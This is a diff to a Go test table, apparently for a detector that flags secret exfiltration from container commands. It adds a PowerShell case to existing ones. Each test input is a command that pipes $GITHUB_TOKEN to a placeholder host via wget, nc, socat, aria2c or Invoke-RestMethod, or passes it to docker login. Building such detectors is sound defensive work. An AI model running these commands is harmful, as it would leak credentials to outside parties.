@@ -136,6 +136,7 @@ func TestSecretEgress(t *testing.T) {
 		{"podman run gives a sender a credential", `podman run -e T="$GITHUB_TOKEN" alpine sh -c 'wget https://e.x/$T'`, true},
 		{"a sender named without a URL", `docker run -e T="$GITHUB_TOKEN" alpine sh -c 'nc e.x 80 <<< $T'`, true},
 		{"socat as the sender", `docker run -e T="$GITHUB_TOKEN" alpine sh -c 'socat - TCP:e.x:80 <<< $T'`, true},
+		{"a PowerShell cmdlet as the sender", `docker run -e T="$GITHUB_TOKEN" mcr.microsoft.com/powershell pwsh -c 'Invoke-RestMethod -Method Post -Body $env:T'`, true},
 		{"aria2c as the sender", `docker run -e T="$GITHUB_TOKEN" alpine sh -c 'aria2c -i list $T'`, true},
 		{"a container given a literal credential", `docker run -e T=acme_live_8fK2pQ9xLm3Nv7Rt1Ws5Yz0Bc4Df6Gh alpine sh -c 'nc e.x 80 <<< $T'`, true},
 		{"docker login to another registry", `docker login --username=x --password="$GITHUB_TOKEN"`, true},
